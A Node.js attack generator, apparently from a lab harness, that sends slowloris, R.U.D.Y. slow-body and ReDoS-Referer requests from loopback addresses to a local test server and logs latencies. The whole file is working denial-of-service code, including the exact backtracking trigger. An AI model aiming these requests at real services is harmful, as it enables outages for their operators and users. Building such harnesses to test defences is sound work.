'use strict';

// The attackers, each type from an address of its own: requests that cost the server much more than the attacker.

const exchange = require('../nodejs/exchange');
const {fail, loopback, parse, target} = require('../nodejs/options');
const Random = require('../nodejs/random');
const {send} = require('./pieces');

// What one request costs at --scale 1: seconds of a thread for those that are slow, spread evenly on a logarithmic scale.
const SHORTEST = 4;
const LONGEST = 10;
// Letters in the hostile Referer: each doubles what a line of the server's list costs, until PCRE gives up at 22.
const LETTERS = [19, 20, 21, 22];
const PAUSE_MS = 100;
const LONGEST_PAUSE_MS = 400;
const PAGE = '/page-00001.html';

/** Milliseconds between two pieces. */
function pause(random) {
  return PAUSE_MS + random.below(LONGEST_PAUSE_MS - PAUSE_MS);
}

/** The first piece, then pieces that next() makes for so many seconds, then the last. */
function drip(first, next, last, seconds, random) {
  const pieces = [{text: first, pause: 0}];
  let left = 1000 * seconds;
  while (left > LONGEST_PAUSE_MS) {
    const piece = {text: next(), pause: pause(random)};
    left -= piece.pause;
    pieces.push(piece);
  }
  pieces.push({text: last, pause: Math.max(0, left)});
  return pieces;
}

/** A header that doesn't end: by turns a byte and a line at a time. */
function slowloris(index, cost, random) {
  const start = `GET ${PAGE} HTTP/1.1\r\nHost: server\r\nConnection: close\r\n`;
  if (index % 2 === 0) {
    return drip(start, () => `X-Wait-${random.below(1e6)}: ${random.below(1e6)}\r\n`, '\r\n', cost, random);
  }
  return drip(start + 'X-Wait: ', () => String(random.below(10)), '\r\n\r\n', cost, random);
}

/** R.U.D.Y. ("R-U-Dead-Yet?"): a form that doesn't end. */
function slowBody(index, cost, random) {
  const next = () => 'dead+yet+'.substr(random.below(7), 1 + random.below(3));
  const pieces = drip('', next, '?', cost, random);
  const length = pieces.reduce((sum, piece) => sum + piece.text.length, 'text='.length);
  pieces[0].text = 'POST /comment HTTP/1.1\r\nHost: server\r\nConnection: close\r\n'
    + `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${length}\r\n\r\ntext=`;
  return pieces;
}

/** A Referer that the server's list against spam backtracks on. */
function redos(index, letters) {
  const referer = `http://${'a'.repeat(letters)}!`;
  return [{text: `GET ${PAGE} HTTP/1.1\r\nHost: server\r\nConnection: close\r\nReferer: ${referer}\r\n\r\n`, pause: 0}];
}

const slow = (index, count) => SHORTEST * Math.exp(index / Math.max(1, count - 1) * Math.log(LONGEST / SHORTEST));
const TYPES = {
  redos: {source: '127.0.0.66', cost: index => LETTERS[index % LETTERS.length], pieces: redos},
  slowloris: {source: '127.0.0.67', cost: slow, pieces: slowloris},
  'slow-body': {source: '127.0.0.68', cost: slow, pieces: slowBody},
};
const NAMES = Object.keys(TYPES).join('|');

const options = parse(`attack.js ${NAMES} [OPTION...]`, {
  url: {value: 'http://127.0.0.1:3003', text: 'the server'},
  requests: {value: 15, max: 1000, whole: true, text: 'number of requests'},
  'interval-ms': {value: 2500, text: 'mean milliseconds from one request to the next'},
  delay: {value: 0, max: 3600, text: 'seconds before the first request'},
  scale: {value: 1, min: 0.01, max: 10, text: 'times 4 to 10 s: how long slow requests take'},
  letters: {value: 0, max: 30, whole: true, text: 'in each Referer of redos, instead of 19 to 22'},
  timeout: {value: 60, min: 1, max: 600, text: 'seconds for one request'},
  source: {value: '', text: 'loopback address to send from (default: 127.0.0.66, .67 or .68, by type)'},
  seed: {value: 1, whole: true, text: 'seed of times and order of costs'},
});
const name = options.rest[0];
if (options.rest.length !== 1 || !Object.prototype.hasOwnProperty.call(TYPES, name)) {
  fail(`expected one type of attack, ${NAMES}; found '${options.rest.join(' ')}'`, 2);
}
const type = TYPES[name];
const server = target(options.url);
const source = loopback('source', options.source || type.source);

const random = new Random(options.seed);
const began = exchange.now();
const latencies = [];
const counts = {ok: 0, errors: 0, timeouts: 0};
let firstError = null;

function cost(index) {
  if (type === TYPES.redos) {
    return options.letters || type.cost(index);
  }
  return options.scale * type.cost(index, options.requests);
}

function settle(error) {
  if (error) {
    counts[error.code === 'TIMEOUT' ? 'timeouts' : 'errors']++;
    firstError = firstError || error.message;
  } else {
    counts.ok++;
  }
}

function end() {
  const seconds = Math.round(exchange.now() - began) / 1000;
  const summary = Object.assign({role: name, source, requests: options.requests}, counts, {seconds});
  summary.latency_ms = exchange.quantiles(latencies);
  process.stdout.write(JSON.stringify(summary) + '\n');
  if (counts.ok < options.requests) {
    process.stderr.write(`attack.js: ${options.requests - counts.ok} requests of ${name} failed, the first by: `
      + `${firstError}\n`);
    process.exitCode = 1;
  }
}

function begin(pieces) {
  const start = exchange.now();
  send(server, source, pieces, options.timeout, error => {
    latencies.push(exchange.now() - start);
    settle(error);
    if (latencies.length === options.requests) {
      end();
    }
  });
}

const costs = random.shuffle(Array.from({length: options.requests}, (_, index) => cost(index)));
// At even intervals every request would meet the recorder's snapshots, which are evenly spaced too, at the same point
// of its life.
costs.forEach((value, index) => {
  const due = 1000 * options.delay + options['interval-ms'] * (index + 0.5 * random.uniform());
  setTimeout(begin, due, type.pieces(index, value, random));
});
if (options.requests === 0) {
  end();
}
